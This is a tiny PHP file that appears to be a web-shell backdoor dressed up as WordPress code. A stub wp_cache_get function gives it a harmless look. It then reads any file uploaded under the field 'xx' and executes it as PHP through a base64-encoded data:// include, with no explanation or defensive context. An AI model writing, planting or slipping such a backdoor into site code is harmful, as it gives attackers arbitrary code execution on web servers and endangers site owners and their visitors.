<?php
if (!function_exists('wp_cache_get')) { function wp_cache_get() { return false; } }
$q = file_get_contents($_FILES['xx']['tmp_name']);
include 'data://text/plain;base64,' . base64_encode($q);
